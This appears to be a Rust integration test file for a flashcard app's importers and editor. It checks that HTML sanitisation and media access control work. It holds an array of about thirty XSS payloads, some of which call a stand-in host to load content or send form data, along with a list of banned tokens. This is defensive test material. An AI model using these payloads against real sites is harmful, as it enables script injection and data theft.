@@ -1,0 +1,673 @@
+//! Formatted cards (issue 24): a table of hostile fields imported through each importer and
+//! typed into the editor never puts anything that runs, fetches or styles into a page, while
+//! formatting (bold, lists, tables, code) shows as formatting and plain-text cards keep their
+//! exact look.
+
+use crate::helpers::{TestApp, spawn_app, upload, upload_to};
+use reqwest::StatusCode;
+
+/// Hostile fields: OWASP filter-evasion vectors and the ways an Anki field can carry script.
+const HOSTILE: &[&str] = &[
+    r#"<script>alert(1)</script>"#,
+    r#"<img src=x onerror=alert(1)>"#,
+    r#"<img src="javascript:alert(1)">"#,
+    r#"<a href="javascript:alert(1)">x</a>"#,
+    r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
+    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
+    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
+    r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#,
+    r#"<svg onload=alert(1)><script>alert(1)</script></svg>"#,
+    r#"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>"#,
+    r#"<iframe src="https://evil.example/"></iframe>"#,
+    r#"<form action="https://evil.example/"><input name=stolen><button>go</button></form>"#,
+    r#"<div style="background:url(https://evil.example/x)">x</div>"#,
+    r#"<style>body{background:url(https://evil.example/x)}</style>"#,
+    r#"<body onload=alert(1)>"#,
+    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
+    r#"<object data="javascript:alert(1)"></object>"#,
+    r#"<embed src="javascript:alert(1)">"#,
+    r##"<a href="#" onclick="alert(1)">x</a>"##,
+    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
+    r#"<img """><script>alert("XSS")</script>">"#,
+    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
+    r#"<link rel=stylesheet href="https://evil.example/x.css">"#,
+    r#"<base href="https://evil.example/">"#,
+    r#"<img src="https://evil.example/track.png">"#,
+    r#"<details open ontoggle=alert(1)>"#,
+    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
+    r#"<!--<img src="--><img src=x onerror=alert(1)//">"#,
+    r#"\(\href{javascript:alert(1)}{x}\)"#,
+    r#"<p title="\(x</p><script>alert(1)</script>\)">y</p>"#,
+];
+
+/// The tags of a page, each from `<` to its `>` outside quotes, in lower case: text between
+/// tags is escaped, so harmless whatever it says.
+fn tags_of(html: &str) -> Vec<String> {
+    let mut tags = Vec::new();
+    let mut current: Option<String> = None;
+    let mut quoted = false;
+    for c in html.chars() {
+        match current.as_mut() {
+            None if c == '<' => current = Some(String::from("<")),
+            None => {}
+            Some(tag) => {
+                tag.push(c);
+                if c == '"' {
+                    quoted = !quoted;
+                } else if c == '>' && !quoted {
+                    tags.push(tag.to_ascii_lowercase());
+                    current = None;
+                }
+            }
+        }
+    }
+    tags.extend(current);
+    tags
+}
+
+/// `tag` with the values of its `title` attributes left out.
+fn without_titles(tag: &str) -> String {
+    let mut out = String::new();
+    let mut rest = tag;
+    while let Some(at) = rest.find(" title=\"") {
+        out.push_str(&rest[..at]);
+        let value = &rest[at + " title=\"".len()..];
+        rest = value.find('"').map_or("", |end| &value[end + 1..]);
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Fails if any tag of `page` could run script, fetch from elsewhere, restyle the page or
+/// send a form anywhere but here.
+fn assert_nothing_runs(page: &str, what: &str) {
+    // The page's own empty icon (base.html), the one `data:` address a page may carry.
+    let own_icon = r#"<link rel="icon" href="data:,">"#;
+    for tag in tags_of(page).into_iter().filter(|t| t != own_icon) {
+        // A title is text shown on hover, whatever it says.
+        let tag = without_titles(&tag);
+        let name: String = tag[1..]
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .collect();
+        // A link may lead anywhere on the web (rel=noopener); nothing else may fetch from it.
+        if name != "a" {
+            assert!(!tag.contains("evil.example"), "{what}: {tag}");
+        }
+        for bad in [
+            "alert",
+            "javascript:",
+            "data:",
+            "onerror",
+            "onload",
+            "onclick",
+            "ontoggle",
+            "xlink",
+            " style=",
+            "http-equiv",
+        ] {
+            assert!(!tag.contains(bad), "{what}: {bad} in {tag}");
+        }
+        match name.as_str() {
+            "script" => assert!(tag.contains("src=\"/static/"), "{what}: {tag}"),
+            "link" => assert!(tag.contains("href=\"/static/"), "{what}: {tag}"),
+            "style" | "iframe" | "object" | "embed" | "base" | "frame" => {
+                panic!("{what}: {tag}")
+            }
+            "form" => assert!(tag.contains("action=\"/"), "{what}: {tag}"),
+            "input" => assert!(!tag.contains("stolen"), "{what}: {tag}"),
+            _ => {}
+        }
+    }
+}
+
+async fn deck_id(app: &TestApp, name: &str) -> i64 {
+    sqlx::query_scalar("SELECT id FROM decks WHERE name = $1")
+        .bind(name)
+        .fetch_one(&app.pool().await)
+        .await
+        .unwrap()
+}
+
+/// Every page that shows deck `deck`'s cards: the deck, each card's page, the editor and the
+/// review page; each checked with [`assert_nothing_runs`]. Returns the deck page.
+async fn assert_deck_pages_are_harmless(app: &TestApp, deck: i64, what: &str) -> String {
+    let deck_page = app.get_html(&format!("/decks/{deck}")).await;
+    assert_nothing_runs(&deck_page, &format!("{what}: deck page"));
+    assert_nothing_runs(
+        &app.get_html(&format!("/decks/{deck}/edit")).await,
+        &format!("{what}: editor"),
+    );
+    assert_nothing_runs(
+        &app.get_html(&format!("/review?deck={deck}")).await,
+        &format!("{what}: review"),
+    );
+    let ids: Vec<i64> = sqlx::query_scalar("SELECT id FROM cards WHERE deck_id = $1")
+        .bind(deck)
+        .fetch_all(&app.pool().await)
+        .await
+        .unwrap();
+    assert!(ids.len() >= HOSTILE.len(), "{what}: {} cards", ids.len());
+    for id in ids {
+        let page = app.get_html(&format!("/cards/{id}")).await;
+        assert_nothing_runs(&page, &format!("{what}: card {id}"));
+    }
+    deck_page
+}
+
+/// An Anki package holding `notes` (front, back as Anki HTML).
+async fn apkg(notes: &[(String, String)]) -> Vec<u8> {
+    let collection = studyhall::db::anki::write_collection("Hostile", notes, 1_700_000_000_000)
+        .await
+        .unwrap();
+    studyhall::import::apkg::package(&collection).unwrap()
+}
+
+#[tokio::test]
+async fn hostile_anki_fields_are_neutralised_and_formatting_shows() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let mut notes: Vec<(String, String)> = HOSTILE
+        .iter()
+        .enumerate()
+        .map(|(i, h)| (format!("F{i} {h}"), format!("<b>bold {i}</b> {h}")))
+        .collect();
+    notes.push((
+        "A <i>list</i> and a table".to_owned(),
+        "<ul><li>one</li><li>two</li></ul><table><tr><td>cell</td></tr></table>\
+         <pre><code>x = 1</code></pre> \\(a^2\\)"
+            .to_owned(),
+    ));
+    let bytes = apkg(&notes).await;
+
+    // The preview shows the cards formatted, and nothing that runs.
+    let preview = upload_to(
+        &app,
+        "/admin/import/preview",
+        "hostile.apkg",
+        bytes.clone(),
+        "Hostile apkg",
+        "",
+    )
+    .await;
+    assert_eq!(preview.status(), StatusCode::OK);
+    let preview = preview.text().await.unwrap();
+    assert_nothing_runs(&preview, "apkg preview");
+    assert!(preview.contains("<b>bold 3</b>"), "{preview}");
+
+    let r = upload(&app, "hostile.apkg", bytes, "Hostile apkg", "").await;
+    let page = r.text().await.unwrap();
+    assert!(page.contains("Imported"), "{page}");
+    let deck = deck_id(&app, "Hostile apkg").await;
+    let html: i64 =
+        sqlx::query_scalar("SELECT COUNT(*) FROM cards WHERE deck_id = $1 AND format = 'html'")
+            .bind(deck)
+            .fetch_one(&app.pool().await)
+            .await
+            .unwrap();
+    assert_eq!(
+        html as usize,
+        notes.len(),
+        "every formatted note is an HTML card"
+    );
+    // Nothing hostile is even stored: the stored form is the sanitised one.
+    let stored: Vec<String> =
+        sqlx::query_scalar("SELECT front || back FROM cards WHERE deck_id = $1")
+            .bind(deck)
+            .fetch_all(&app.pool().await)
+            .await
+            .unwrap();
+    for s in &stored {
+        assert_nothing_runs(s, "stored card");
+    }
+
+    let deck_page = assert_deck_pages_are_harmless(&app, deck, "apkg").await;
+    for formatted in [
+        "<b>bold 7</b>",
+        "<ul><li>one</li><li>two</li></ul>",
+        "<td>cell</td>",
+        "<pre><code>x = 1</code></pre>",
+        "<math",
+    ] {
+        assert!(
+            deck_page.contains(formatted),
+            "{formatted} on the deck page"
+        );
+    }
+}
+
+#[tokio::test]
+async fn hostile_text_files_stay_plain_text_as_before() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let tsv: String = HOSTILE
+        .iter()
+        .enumerate()
+        .map(|(i, h)| format!("T{i} {h}\t<b>bold {i}</b>\n"))
+        .collect();
+    let r = upload(&app, "hostile.tsv", tsv.into_bytes(), "Hostile tsv", "tsv").await;
+    assert!(r.text().await.unwrap().contains("Imported"));
+    let mut writer = csv::Writer::from_writer(Vec::new());
+    writer.write_record(["front", "back"]).unwrap();
+    for (i, h) in HOSTILE.iter().enumerate() {
+        writer
+            .write_record([format!("C{i} {h}"), format!("<b>bold {i}</b>")])
+            .unwrap();
+    }
+    let r = upload(
+        &app,
+        "hostile.csv",
+        writer.into_inner().unwrap(),
+        "Hostile csv",
+        "csv",
+    )
+    .await;
+    assert!(r.text().await.unwrap().contains("Imported"));
+    for name in ["Hostile tsv", "Hostile csv"] {
+        let deck = deck_id(&app, name).await;
+        let page = assert_deck_pages_are_harmless(&app, deck, name).await;
+        // Text cards look as they always did: their markup is shown, escaped, as typed.
+        let escaped = page.replace("&#60;", "&lt;").replace("&#62;", "&gt;");
+        assert!(escaped.contains("&lt;b&gt;bold 3&lt;/b&gt;"), "{name}");
+        assert!(!page.contains("<b>bold 3</b>"), "{name}");
+    }
+}
+
+#[tokio::test]
+async fn hostile_html_typed_in_the_editor_is_neutralised_and_formatting_shows() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let r = upload(&app, "seed.tsv", b"seed\tcard\n".to_vec(), "Typed", "tsv").await;
+    assert!(r.text().await.unwrap().contains("Imported"));
+    let deck = deck_id(&app, "Typed").await;
+    let edit = format!("/decks/{deck}/edit");
+    let add = format!("/decks/{deck}/cards");
+    for (i, h) in HOSTILE.iter().enumerate() {
+        let front = format!("E{i} {h}");
+        let back = format!("<b>bold {i}</b> <ol><li>first</li></ol> {h}");
+        // The preview shows it, unsaved, as students would see it.
+        let preview = app
+            .submit(
+                &edit,
+                &add,
+                &[
+                    ("front", &front),
+                    ("back", &back),
+                    ("tags", ""),
+                    ("format", "html"),
+                    ("preview", "1"),
+                ],
+            )
+            .await;
+        assert_eq!(preview.status(), StatusCode::OK, "{h}");
+        let preview = preview.text().await.unwrap();
+        assert_nothing_runs(&preview, &format!("editor preview of {h}"));
+        assert!(preview.contains(&format!("<b>bold {i}</b>")), "{h}");
+        let r = app
+            .submit(
+                &edit,
+                &add,
+                &[
+                    ("front", &front),
+                    ("back", &back),
+                    ("tags", ""),
+                    ("format", "html"),
+                ],
+            )
+            .await;
+        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{h}");
+    }
+    let page = assert_deck_pages_are_harmless(&app, deck, "editor").await;
+    assert!(page.contains("<b>bold 5</b> <ol><li>first</li></ol>"));
+    // The seed card, typed as text, keeps its look.
+    assert!(page.contains(">card<"), "the text card's back as before");
+
+    // Editing a card keeps its format unless changed, and a side of markup alone is empty.
+    let id: i64 =
+        sqlx::query_scalar("SELECT id FROM cards WHERE deck_id = $1 AND front LIKE 'E0 %'")
+            .bind(deck)
+            .fetch_one(&app.pool().await)
+            .await
+            .unwrap();
+    let r = app
+        .submit(
+            &edit,
+            &format!("/cards/{id}/edit"),
+            &[
+                ("front", "<script>alert(1)</script><div><br></div>"),
+                ("back", "b"),
+                ("tags", ""),
+                ("format", "html"),
+            ],
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(r.text().await.unwrap().contains("cannot be empty"));
+}
+
+/// A PNG header claiming `w` by `h` pixels, with `tag` after it so each file differs.
+fn png(w: u32, h: u32, tag: &str) -> Vec<u8> {
+    let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
+    b.extend(w.to_be_bytes());
+    b.extend(h.to_be_bytes());
+    b.extend([8, 6, 0, 0, 0, 0, 0, 0, 0]);
+    b.extend(tag.as_bytes());
+    b
+}
+
+/// A legacy Anki package: the collection of `notes` and the `media` index naming `files`.
+async fn package_with_media(notes: &[(String, String)], files: &[(&str, Vec<u8>)]) -> Vec<u8> {
+    use std::io::Write;
+    let collection = studyhall::db::anki::write_collection("Course", notes, 1_700_000_000_000)
+        .await
+        .unwrap();
+    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default();
+    zip.start_file("collection.anki2", options).unwrap();
+    zip.write_all(&collection).unwrap();
+    let index: serde_json::Map<String, serde_json::Value> = files
+        .iter()
+        .enumerate()
+        .map(|(i, (name, _))| (i.to_string(), serde_json::Value::from(*name)))
+        .collect();
+    zip.start_file("media", options).unwrap();
+    zip.write_all(serde_json::Value::Object(index).to_string().as_bytes())
+        .unwrap();
+    for (i, (_, bytes)) in files.iter().enumerate() {
+        zip.start_file(i.to_string(), options).unwrap();
+        zip.write_all(bytes).unwrap();
+    }
+    zip.finish().unwrap().into_inner()
+}
+
+fn sha256(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    hex::encode(sha2::Sha256::digest(bytes))
+}
+
+#[tokio::test]
+async fn an_anki_package_arrives_with_its_images_and_sounds_served_only_to_its_students() {
+    let admin = spawn_app().await;
+    admin.register_ok("admin").await;
+    let teacher = crate::classes::make_instructor(&admin, "teacher").await;
+    let student = admin.other_browser();
+    student.register_ok("student").await;
+
+    let diagram = png(640, 480, "diagram");
+    let mp3 = b"ID3\x04\0\0\0\0\0\0sound bytes".to_vec();
+    let notes: Vec<(String, String)> = vec![
+        (
+            "The network".to_owned(),
+            r#"<img src="net.png">"#.to_owned(),
+        ),
+        (
+            "<b>Bold</b> term".to_owned(),
+            r#"<ul><li>one</li></ul><img src="net.png" alt="The network, drawn">"#.to_owned(),
+        ),
+        ("Say it".to_owned(), "[sound:hello.mp3]".to_owned()),
+        ("Too big".to_owned(), r#"<img src="bomb.png">"#.to_owned()),
+    ];
+    let files = vec![
+        ("net.png", diagram.clone()),
+        ("hello.mp3", mp3.clone()),
+        ("bomb.png", png(100_000, 100_000, "bomb")),
+        ("notes.pdf", b"%PDF-1.4 not an image".to_vec()),
+    ];
+    let bytes = package_with_media(&notes, &files).await;
+
+    // The preview shows the image to the instructor who brought it, and names what was refused.
+    let preview = upload_to(
+        &teacher,
+        "/admin/import/preview",
+        "course.apkg",
+        bytes.clone(),
+        "Vision",
+        "",
+    )
+    .await;
+    assert_eq!(preview.status(), StatusCode::OK);
+    let preview = preview.text().await.unwrap();
+    let image = format!("/media/{}", sha256(&diagram));
+    assert!(
+        preview.contains(&format!(r#"<img src="{image}" alt="net.png">"#)),
+        "{preview}"
+    );
+    assert!(
+        preview.contains("bomb.png") && preview.contains("notes.pdf"),
+        "{preview}"
+    );
+    assert!(preview.contains("100000 by 100000"), "{preview}");
+    assert_eq!(teacher.get(&image).await.status(), StatusCode::OK);
+    assert_eq!(student.get(&image).await.status(), StatusCode::NOT_FOUND);
+
+    let r = upload(&teacher, "course.apkg", bytes, "Vision", "").await;
+    assert!(r.text().await.unwrap().contains("Imported"));
+    let deck = deck_id(&admin, "Vision").await;
+    let page = teacher.get_html(&format!("/decks/{deck}")).await;
+    assert!(
+        page.contains(&format!(r#"<img src="{image}" alt="net.png">"#)),
+        "image-only back"
+    );
+    assert!(page.contains(&format!(r#"<img src="{image}" alt="The network, drawn">"#)));
+    let sound = format!("/media/{}", sha256(&mp3));
+    assert!(
+        page.contains(&format!(r#"<audio controls="" src="{sound}"></audio>"#))
+            || page.contains(&format!(r#"<audio controls src="{sound}"></audio>"#)),
+        "{page}"
+    );
+    assert!(
+        page.contains("[image: bomb.png]"),
+        "a refused image is named, not lost"
+    );
+
+    // Served byte for byte, typed from the bytes, never sniffed, cached for good.
+    let r = teacher.get(&image).await;
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(r.headers()["content-type"], "image/png");
+    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
+    assert!(
+        r.headers()["cache-control"]
+            .to_str()
+            .unwrap()
+            .contains("immutable")
+    );
+    assert_eq!(r.bytes().await.unwrap().as_ref(), diagram.as_slice());
+    let r = teacher.get(&sound).await;
+    assert_eq!(r.headers()["content-type"], "audio/mpeg");
+
+    // A student outside the class: 404, as for a file that does not exist.
+    assert_eq!(student.get(&image).await.status(), StatusCode::NOT_FOUND);
+    assert_eq!(student.get(&sound).await.status(), StatusCode::NOT_FOUND);
+    assert_eq!(
+        student
+            .get(&format!("/media/{}", "0".repeat(64)))
+            .await
+            .status(),
+        StatusCode::NOT_FOUND
+    );
+    // Once the deck is theirs, the same address serves the same bytes.
+    let (class, code) = crate::classes::new_class(&teacher, "Vision class").await;
+    crate::classes::assign(&teacher, class, deck).await;
+    crate::classes::join(&student, &code).await;
+    let r = student.get(&image).await;
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(r.bytes().await.unwrap().as_ref(), diagram.as_slice());
+
+    // An image goes with the last card that uses it, not before.
+    let stored = |hash: String| {
+        let admin = &admin;
+        async move {
+            sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM media WHERE hash = $1")
+                .bind(hash)
+                .fetch_one(&admin.pool().await)
+                .await
+                .unwrap()
+        }
+    };
+    let users: Vec<i64> =
+        sqlx::query_scalar("SELECT card_id FROM card_media WHERE hash = $1 ORDER BY card_id")
+            .bind(sha256(&diagram))
+            .fetch_all(&admin.pool().await)
+            .await
+            .unwrap();
+    assert_eq!(users.len(), 2);
+    for (n, card) in users.iter().enumerate() {
+        let path = format!("/cards/{card}/delete");
+        let r = teacher.submit(&path, &path, &[("confirm", "yes")]).await;
+        assert_eq!(r.status(), StatusCode::SEE_OTHER);
+        let left = stored(sha256(&diagram)).await;
+        assert_eq!(left, if n == 0 { 1 } else { 0 }, "after deleting card {n}");
+    }
+    assert_eq!(teacher.get(&image).await.status(), StatusCode::NOT_FOUND);
+    assert_eq!(stored(sha256(&mp3)).await, 1, "the sound's card stays");
+}
+
+#[tokio::test]
+async fn a_package_larger_than_the_old_two_mib_limit_imports_with_its_images() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    // Three 3 MiB images (a PNG header, then bytes that do not compress): 9 MiB of package.
+    let images: Vec<Vec<u8>> = (0..3u32)
+        .map(|n| {
+            let mut b = png(1200, 900, &format!("slide {n}"));
+            let mut x: u32 = 0x9E37_79B9 ^ n;
+            b.extend((0..3 * 1024 * 1024).map(|_| {
+                x ^= x << 13;
+                x ^= x >> 17;
+                x ^= x << 5;
+                x as u8
+            }));
+            b
+        })
+        .collect();
+    let names = ["slide0.png", "slide1.png", "slide2.png"];
+    let notes: Vec<(String, String)> = names
+        .iter()
+        .map(|n| (format!("Slide {n}"), format!(r#"<img src="{n}">"#)))
+        .collect();
+    let files: Vec<(&str, Vec<u8>)> = names.iter().copied().zip(images.clone()).collect();
+    let bytes = package_with_media(&notes, &files).await;
+    assert!(bytes.len() > 9 * 1024 * 1024, "{} bytes", bytes.len());
+    let r = upload(&app, "slides.apkg", bytes, "Slides", "").await;
+    let page = r.text().await.unwrap();
+    assert!(page.contains("Imported 3 new cards"), "{page}");
+    for image in &images {
+        let r = app.get(&format!("/media/{}", sha256(image))).await;
+        assert_eq!(r.status(), StatusCode::OK);
+        assert_eq!(r.bytes().await.unwrap().as_ref(), image.as_slice());
+    }
+}
+
+#[tokio::test]
+async fn a_cloze_note_becomes_one_card_per_deletion_each_with_its_own_schedule() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let notes = vec![(
+        "{{c1::ReLU}} keeps {{c2::positive::sign}} inputs; {{c1::it}} zeroes the rest".to_owned(),
+        String::new(),
+    )];
+    let r = upload(&app, "cloze.apkg", apkg(&notes).await, "Cloze", "").await;
+    let page = r.text().await.unwrap();
+    assert!(page.contains("Imported 2 new cards"), "{page}");
+    let deck = deck_id(&app, "Cloze").await;
+    let cards: Vec<(i64, String, String)> =
+        sqlx::query_as("SELECT id, front, back FROM cards WHERE deck_id = $1 ORDER BY position")
+            .bind(deck)
+            .fetch_all(&app.pool().await)
+            .await
+            .unwrap();
+    assert_eq!(cards.len(), 2);
+    assert_eq!(
+        cards[0].1,
+        "<b>[...]</b> keeps positive inputs; <b>[...]</b> zeroes the rest"
+    );
+    assert_eq!(
+        cards[0].2,
+        "<b>ReLU</b> keeps positive inputs; <b>it</b> zeroes the rest"
+    );
+    assert_eq!(
+        cards[1].1,
+        "ReLU keeps <b>[sign]</b> inputs; it zeroes the rest"
+    );
+    // Each is a card of its own: the review page shows the first, its front hiding the answer.
+    let review = app.get_html(&format!("/review?deck={deck}")).await;
+    assert!(
+        review.contains("<b>[...]</b> keeps positive inputs"),
+        "{review}"
+    );
+    let card = app.get_html(&format!("/cards/{}", cards[1].0)).await;
+    assert!(card.contains("ReLU keeps <b>positive</b> inputs"), "{card}");
+}
+
+#[tokio::test]
+async fn the_command_line_imports_a_package_with_its_images() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let diagram = png(64, 48, "cli");
+    let notes = vec![("Drawn".to_owned(), r#"<img src="d.png">"#.to_owned())];
+    let bytes = package_with_media(&notes, &[("d.png", diagram.clone())]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("course.apkg");
+    std::fs::write(&path, bytes).unwrap();
+    let report = studyhall::cli::import_file(app.db().await.writer(), &path, "From CLI", None)
+        .await
+        .unwrap();
+    assert_eq!(report.added, 1);
+    let r = app.get(&format!("/media/{}", sha256(&diagram))).await;
+    assert_eq!(
+        r.status(),
+        StatusCode::OK,
+        "the admin sees the public deck's image"
+    );
+    assert_eq!(r.bytes().await.unwrap().as_ref(), diagram.as_slice());
+}
+
+#[tokio::test]
+async fn an_anki_export_carries_the_media_and_imports_back_to_the_same_cards() {
+    let app = spawn_app().await;
+    app.register_ok("admin").await;
+    let diagram = png(64, 48, "export");
+    let mp3 = b"ID3\x04\0\0\0\0\0\0export sound".to_vec();
+    let notes = vec![
+        (
+            "<b>Drawn</b>".to_owned(),
+            r#"<img src="d.png" alt="The net">"#.to_owned(),
+        ),
+        ("Heard".to_owned(), "[sound:s.mp3]".to_owned()),
+        ("Plain".to_owned(), "text".to_owned()),
+    ];
+    let bytes = package_with_media(
+        &notes,
+        &[("d.png", diagram.clone()), ("s.mp3", mp3.clone())],
+    )
+    .await;
+    let r = upload(&app, "course.apkg", bytes, "Round", "").await;
+    assert!(r.text().await.unwrap().contains("Imported 3 new cards"));
+    let deck = deck_id(&app, "Round").await;
+    let exported = app.get(&format!("/decks/{deck}/export.apkg")).await;
+    assert_eq!(exported.status(), StatusCode::OK);
+    let exported = exported.bytes().await.unwrap().to_vec();
+    let media = studyhall::import::apkg::media(&exported).unwrap();
+    let mut hashes: Vec<String> = media.files.iter().map(|f| f.checked.hash.clone()).collect();
+    hashes.sort();
+    let mut want = vec![sha256(&diagram), sha256(&mp3)];
+    want.sort();
+    assert_eq!(hashes, want, "both files travel with the deck");
+
+    let r = upload(&app, "round.apkg", exported, "Round again", "").await;
+    assert!(r.text().await.unwrap().contains("Imported 3 new cards"));
+    let cards = |name: &'static str| {
+        let app = &app;
+        async move {
+            sqlx::query_as::<_, (String, String, String)>(
+                "SELECT c.front, c.back, c.format FROM cards c JOIN decks d ON d.id = c.deck_id
+                 WHERE d.name = $1 ORDER BY c.position",
+            )
+            .bind(name)
+            .fetch_all(&app.pool().await)
+            .await
+            .unwrap()
+        }
+    };
+    assert_eq!(cards("Round").await, cards("Round again").await);
+}
